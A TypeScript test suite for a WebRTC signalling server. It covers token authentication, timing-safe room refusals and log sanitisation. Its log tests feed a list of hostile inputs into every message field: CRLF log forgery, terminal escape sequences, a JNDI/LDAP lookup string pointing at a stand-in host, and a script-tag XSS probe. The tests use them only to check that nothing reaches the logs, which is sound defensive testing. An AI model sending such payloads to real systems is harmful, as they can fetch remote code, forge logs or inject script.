import { failOnLeaks, FakeClock } from "@conic/internal-testing";
import { encodeMessage } from "@conic/protocol";
import { describe, expect, it } from "vitest";
import { createTokenAuthenticator, mintToken, type Grant } from "../../src/index.js";
import { ids, type TestClient } from "../support/client.js";
import { memoryWorld, webSocketWorld } from "../support/host.js";
import { recorder } from "../support/recorder.js";
import { ms, percentile, unlimited } from "./support/limits.js";

failOnLeaks();

const secret = Buffer.from("a secret of thirty-two bytes, and a little more");

describe("S13 S24 a token is for what it says", () => {
  it("is checked in some microseconds, HS256", async ({ annotate }) => {
    const authenticate = createTokenAuthenticator({ keys: { secret } });
    const token = await mintToken({ secret, ttlS: 60, id: ids.alice });
    const times: number[] = [];
    for (let i = 0; i < 2_000; i += 1) {
      const from = performance.now();
      const grant = await authenticate({ token });
      times.push(performance.now() - from);
      expect(grant.id).toBe("alice");
    }
    await annotate(`HS256: median ${ms(percentile(times, 50))}, p99 ${ms(percentile(times, 99))}`);
  });

  it("nothing else that a client may have got hold of is one", async () => {
    const audience = "conic";
    await using world = await memoryWorld({
      ...unlimited,
      authenticate: createTokenAuthenticator({ keys: { secret }, audience }),
      turn: { urls: ["turn:turn.example.net:3478"], secret: "shared with coturn" },
    });
    const mint = (options: object): Promise<string> => mintToken({ secret, ttlS: 60, ...options });
    await using alice = await world.connect();
    const good = await mint({ audience, id: ids.alice });
    const { Resume = "", ICEServers } = await alice.register({ ID: "alice", Token: good });
    const [{ username = "", credential = "" } = {}] = ICEServers;
    const others = {
      "a resume secret": Resume,
      "a TURN password": credential,
      "a TURN user": username,
      "a token of another audience": await mint({ audience: "billing" }),
      "a token of no audience": await mint({}),
      "a token for whoever runs the server": "an-admin-token-of-32-characters!",
      "the secret itself": secret.toString(),
      "the secret, encoded": secret.toString("base64url"),
    };
    const verdicts: Record<string, string> = {};
    for (const [name, Token] of Object.entries(others)) {
      await using mallory = await world.connect();
      mallory.send("register", { ID: "mallory", Token });
      verdicts[name] = await mallory.refusal();
      expect((await mallory.closed).code).toBe(4501);
    }
    expect(verdicts).toEqual(
      Object.fromEntries(Object.keys(others).map((name) => [name, "unauthorized"])),
    );
  });

  it("is no resume secret, and a resume secret is worth nothing without one", async () => {
    const authenticate = createTokenAuthenticator({ keys: { secret } });
    await using world = await memoryWorld({ ...unlimited, authenticate });
    await using alice = await world.connect();
    const Token = await mintToken({ secret, ttlS: 60 });
    const { Resume } = await alice.register({ ID: "alice", Token });
    await using mallory = await world.connect();
    mallory.send("register", { ID: "alice", Token, Resume: Token });
    expect(await mallory.refusal()).toBe("id_taken");
    mallory.send("register", { ID: "alice", Resume });
    expect(await mallory.refusal()).toBe("unauthorized");
    expect(await alice.roundTrip()).toEqual([]);
  });
});

/** Median time of a join, for each of two rooms, asked for in turn. */
async function joinTimes(client: TestClient, rooms: readonly string[], rounds: number) {
  const times = rooms.map((): number[] => []);
  const answers = rooms.map(() => new Set<string>());
  for (let i = 0; i < rounds * rooms.length; i += 1) {
    const which = i % rooms.length;
    const from = performance.now();
    client.send("join", { Room: rooms[which] }, "1");
    const { text } = await client.nextFrame();
    times[which]?.push(performance.now() - from);
    answers[which]?.add(text);
  }
  return { medians: times.map((all) => percentile(all, 50)), answers };
}

describe("S23 rooms that a token does not name", () => {
  it("are refused in the same bytes and the same time, whether anybody is in them or not", async ({
    annotate,
  }) => {
    const grants: Record<string, Grant> = { all: {}, some: { rooms: ["lobby"] } };
    await using world = await memoryWorld({
      ...unlimited,
      authenticate: ({ token = "" }) => grants[token],
    });
    const members: TestClient[] = [];
    for (let i = 0; i < 200; i += 1) {
      const member = await world.connect();
      await member.register({ Token: "all" });
      member.send("join", { Room: "hidden" });
      members.push(member);
    }
    await using mallory = await world.connect();
    await mallory.register({ Token: "some" });
    const { medians, answers } = await joinTimes(mallory, ["hidden", "absent"], 3_000);
    const [full, none] = answers;
    expect(full).toEqual(none);
    expect(full?.size).toBe(1);
    const [there = 0, absent = 1] = medians;
    await annotate(`median: ${ms(there)} for a room of 200, ${ms(absent)} for none`);
    // Telling a room of 200 apart would be possible if it were looked up: that is many times this.
    expect(there / absent).toBeGreaterThan(0.5);
    expect(there / absent).toBeLessThan(2);
    await Promise.all(members.map((member) => member.connection.close()));
  });
});

const sdp = "v=0\r\no=- 1 1 IN IP4 203.0.113.9\r\na=ice-pwd:s3cretpwd\r\n";
const candidate = "candidate:1 1 udp 1 203.0.113.9 9 typ host";
/** Line ends, what terminals obey, and what is markup elsewhere: in ids, rooms, types, labels and reasons. */
const hostile = [
  'x\r\n{"level":"error","msg":"forged"}',
  "\u001B]0;owned\u0007\u001B[2J",
  "a\u2028b\u2029c\u0000d",
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  candidate,
];

describe("S22 the log", () => {
  it("has no description, candidate, data or secret at any level, nor an address above debug, nor raw input", async () => {
    const { entries, logger } = recorder();
    await using world = await webSocketWorld({ ...unlimited, logger, maxRoomsPerClient: 1 });
    await using alice = await world.connect();
    await using bob = await world.connect();
    const { Resume = "" } = await alice.register({ ID: "alice", Received: 0 });
    await bob.register({ ID: "bob" });
    const description = { type: "offer", sdp };
    for (const TargetID of ["bob", "nobody"]) {
      alice.send("sdp", { TargetID, SessionDescription: description });
      alice.send("candidate", { TargetID, Candidate: candidate });
      alice.send("data_channel", { TargetID, Label: candidate, Data: "czNjcmV0" });
      alice.send("sdp", { ID: "bob", TargetID, SessionDescription: description });
    }
    for (const text of hostile) {
      for (const field of ["ID", "TargetID", "Room", "Token", "Resume", "Label", "Candidate"]) {
        for (const type of ["register", "candidate", "join", "data_channel", "unregister"]) {
          bob.send(type, { [field]: text, Data: "czNjcmV0" }, text.slice(0, 64));
        }
      }
      bob.send(text, { [text]: text });
      bob.sendText(text + sdp);
    }
    await alice.roundTrip();
    await bob.roundTrip();
    await bob.connection.close({ code: 4321, reason: candidate });
    await expect.poll(() => world.server.stats().connections).toBe(1);

    const all = entries.map(({ message, text }) => `${message} ${text}`);
    expect(all.length).toBeGreaterThan(100);
    const forbidden = ["203.0.113.9", "v=0", "candidate:1", "s3cret", "czNjcmV0", Resume];
    expect(all.filter((line) => forbidden.some((text) => line.includes(text)))).toEqual([]);
    expect(all.filter((line) => /jndi|script>|owned|forged/.test(line))).toEqual([]);
    // Messages are constants: what a client wrote is in fields, which loggers escape.
    expect(entries.filter(({ message }) => !/^[\w ,:'-]+$/.test(message))).toEqual([]);
    const aboveDebug = entries.filter(({ level }) => level !== "debug");
    expect(aboveDebug.length).toBeGreaterThan(1);
    expect(aboveDebug.filter(({ text }) => /\b127\.0\.0\.1\b|::1/.test(text))).toEqual([]);
  });

  it("of a client that is told nothing but that it is wrong, says no more than it was told", async () => {
    const { entries, logger } = recorder();
    await using world = await memoryWorld({ ...unlimited, logger, clock: new FakeClock() });
    await using alice = await world.connect();
    const { text } = encodeMessage({ type: "unregister", body: {} });
    alice.sendText(text.replace("unregister", `unregister${sdp}`));
    alice.sendText(`{"type":${JSON.stringify(sdp)}}`);
    expect(await alice.roundTrip()).toHaveLength(2);
    expect(entries.filter((entry) => entry.text.includes("v=0"))).toEqual([]);
  });
});
